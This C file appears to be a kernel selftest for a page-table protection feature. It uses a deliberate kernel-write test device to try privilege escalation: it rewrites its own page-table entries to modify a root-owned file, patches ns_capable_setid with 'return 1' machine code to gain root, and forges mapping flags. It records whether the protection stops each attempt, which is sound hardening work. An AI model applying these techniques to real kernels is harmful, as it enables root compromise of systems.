// SPDX-License-Identifier: GPL-2.0
/*
 * Description: shows what users can do with a bug that writes a word of kernel memory,
 * if they know where things are: they write to their own page tables and, through
 * these, to memory that is read-only even for the kernel. They change a file that root
 * owns, and they become root by changing the kernel's code. They also change that file
 * without touching a page table.
 *
 * Usage: privilege TRIES
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>

#include "kpkeys_write.h"
#include "oops.h"
#include "record.h"
#include "symbol.h"
#include "tables.h"
#include "task.h"
#include "write_record.h"

enum kind { FILE_PAGE, KERNEL_PAGE, FILE_VMA };

#ifdef __x86_64__
#define KILLED_BY_OOPS SIGKILL
#define WRITABLE       (1UL << 1)
#define READ_ONLY      0UL
/* mov $1, %eax; ret */
static const uint8_t say_yes[] = { 0xb8, 1, 0, 0, 0, 0xc3 };
#else
#define KILLED_BY_OOPS SIGSEGV
/* It may be written to, and the CPU says so when it was. */
#define WRITABLE       (1UL << 51)
#define READ_ONLY      (1UL << 7)
/* mov w0, #1; ret */
static const uint8_t say_yes[] = { 0x20, 0, 0x80, 0x52, 0xc0, 0x03, 0x5f, 0xd6 };
#endif

/* Of a mapping: it may be written to, and may be made so */
#define VM_WRITE    0x02UL
#define VM_MAYWRITE 0x20UL

#define ROOTS_FILE "/roots_file"

enum { USER = 1000, UNTOUCHED = '0', CHANGED = '1' };

/* What the attacker, an ordinary user, can use. */
struct attacker {
	/* Reads kernel memory. */
	int probe;
	/* Writes to kernel memory: /dev/kpkeys_write. */
	int bug;
	/* The function that decides whether a process may change its user. */
	uint64_t ns_capable_setid;
	/* Shared with the process that watches. */
	struct progress {
		bool writing;
		/* At least one did not kill the process. */
		bool wrote;
		bool is_root;
	} *progress;
};

/* Kills the process if page tables are protected. */
static void write_word(struct attacker *a, uint64_t address, uint64_t value)
{
	struct kpkeys_write_word word = { .address = address, .value = value };

	a->progress->writing = true;
	if (ioctl(a->bug, KPKEYS_WRITE_WORD, &word))
		fail("the bug");
	a->progress->writing = false;
	a->progress->wrote = true;
}

static void write_entry(struct attacker *a, const struct table_entry *entry, uint64_t value)
{
	write_word(a, entry->address, value);
}

/* The kernel flushes the whole TLB instead of what two pages so far apart enclose. */
static void forget_translations(void)
{
	size_t size = 16UL << 30;
	volatile char *pages = mmap(NULL, size, PROT_READ | PROT_WRITE,
				    MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

	if (pages == MAP_FAILED)
		fail("pages to unmap");
	pages[0] = 1;
	pages[size - 1] = 1;
	if (munmap((void *)pages, size))
		fail("munmap");
}

/* The entry of a page in use. */
static struct table_entry own_entry(const struct tables *t, const volatile void *page)
{
	struct table_entry entry = find_leaf(t, (uintptr_t)page);

	if (entry.level == PTE && (entry.value & PRESENT))
		return entry;
	fprintf(stderr, "no entry for %p\n", page);
	exit(1);
}

/* The read-only mapping of a file. */
static volatile char *map_file(void)
{
	int file = open(ROOTS_FILE, O_RDONLY | O_CLOEXEC);
	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ, MAP_SHARED, file, 0);

	if (page == MAP_FAILED || *page != UNTOUCHED)
		fail(ROOTS_FILE);
	return page;
}

/* Have the kernel itself make it writable: it believes what it keeps about mappings. */
static void change_file_by_vma(struct attacker *a)
{
	volatile char *page = map_file();
	uint64_t address = (uintptr_t)page, flags;

	if (ioctl(a->probe, KPKEYS_PROBE_VMA_FLAGS, &address) ||
	    !probe_read(a->probe, address, &flags, sizeof(flags)))
		fail("the mapping");
	write_word(a, address, flags | VM_WRITE | VM_MAYWRITE);
	*page = CHANGED;
}

/* Make it writable in the page tables. */
static void change_file(struct attacker *a)
{
	struct tables tables = own_tables(a->probe);
	volatile char *page = map_file();
	struct table_entry entry = own_entry(&tables, page);

	write_entry(a, &entry, (entry.value | WRITABLE) & ~READ_ONLY);
	forget_translations();
	*page = CHANGED;
}

/* Map the kernel's code in place of an own page, and make it say yes for a moment. */
static void become_root(struct attacker *a)
{
	struct tables tables = own_tables(a->probe);
	uint8_t *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
			     MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	/* Functions are aligned, so this one begins and is changed in one page. */
	uint8_t *code = page + a->ns_capable_setid % PAGE_SIZE, before[sizeof(say_yes)];
	struct tables kernel = kernels_tables(a->probe);
	uint64_t frame = physical_address(&kernel, a->ns_capable_setid) & ADDRESS_MASK;
	struct table_entry entry;

	if (page == MAP_FAILED || !frame)
		fail("a window to the kernel's code");
	entry = own_entry(&tables, page);
	write_entry(a, &entry, (entry.value & ~ADDRESS_MASK) | frame);
	forget_translations();

	memcpy(before, code, sizeof(before));
	memcpy(code, say_yes, sizeof(say_yes));
	__builtin___clear_cache((char *)code, (char *)code + sizeof(say_yes));
	if (setresuid(0, 0, 0))
		perror("setresuid");
	memcpy(code, before, sizeof(before));
	__builtin___clear_cache((char *)code, (char *)code + sizeof(before));
	a->progress->is_root = getuid() == 0;

	write_entry(a, &entry, entry.value);
	forget_translations();
}

static void lose_privileges(void)
{
	if (setgroups(0, NULL) || setresgid(USER, USER, USER) || setresuid(USER, USER, USER))
		fail("to become a user");
	if (!setresuid(0, 0, 0) || open(ROOTS_FILE, O_WRONLY | O_CLOEXEC) >= 0) {
		fputs("users may do all that here without a bug\n", stderr);
		exit(1);
	}
}

static void write_file(const char *path, const char *text)
{
	int file = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	ssize_t size = (ssize_t)strlen(text);

	if (file < 0 || write(file, text, (size_t)size) != size || close(file))
		fail(path);
}

static char first_character(const char *path)
{
	int file = open(path, O_RDONLY | O_CLOEXEC);
	char character;

	if (file < 0 || read(file, &character, 1) != 1 || close(file))
		fail(path);
	return character;
}

/* The attacker must get through or be killed while writing; otherwise nothing was tried. */
static void attack(struct attacker *a, void (*act)(struct attacker *))
{
	pid_t child;
	bool killed;
	int status;

	*a->progress = (struct progress){ 0 };
	child = start_task();
	if (child == 0) {
		lose_privileges();
		act(a);
		_exit(0);
	}
	status = wait_for(child);
	killed = WIFSIGNALED(status) && WTERMSIG(status) == KILLED_BY_OOPS;
	if (!status || (a->progress->writing && killed))
		return;
	fprintf(stderr, "the attacker ended with wait status %#x\n", (unsigned int)status);
	exit(1);
}

/* A write that left the attacker alive is what did not work, whatever came later. */
static struct kpkeys_try end_of(struct attacker *a, bool landed)
{
	struct kpkeys_try end = { .landed = landed, .code = KPKEYS_NO_FAULT };

	if (!landed && !a->progress->wrote && ioctl(a->bug, KPKEYS_WRITE_END, &end))
		fail("the end of the write");
	return end;
}

static struct kpkeys_try change_file_by(struct attacker *a, void (*change)(struct attacker *))
{
	const char untouched[] = { UNTOUCHED, '\0' };

	write_file(ROOTS_FILE, untouched);
	attack(a, change);
	return end_of(a, first_character(ROOTS_FILE) != UNTOUCHED);
}

static struct kpkeys_try change_user(struct attacker *a)
{
	attack(a, become_root);
	return end_of(a, a->progress->is_root);
}

int main(int argc, char **argv)
{
	size_t tries = samples_wanted(argc, argv);
	struct attacker a = {
		.probe = probe_open(),
		.bug = open("/dev/kpkeys_write", O_RDWR | O_CLOEXEC),
		.ns_capable_setid = symbol("ns_capable_setid"),
		.progress = mmap(NULL, sizeof(*a.progress), PROT_READ | PROT_WRITE,
				 MAP_SHARED | MAP_ANONYMOUS, -1, 0),
	};
	char panics;

	if (a.bug < 0 || a.progress == MAP_FAILED)
		fail("/dev/kpkeys_write");
	/* An attacker that fails must not take the kernel along. */
	panics = set_panic_on_oops('0');
	for (size_t i = 0; i < tries; i++) {
		print_write(FILE_PAGE, change_file_by(&a, change_file));
		print_write(KERNEL_PAGE, change_user(&a));
		print_write(FILE_VMA, change_file_by(&a, change_file_by_vma));
	}
	set_panic_on_oops(panics);
	return 0;
}
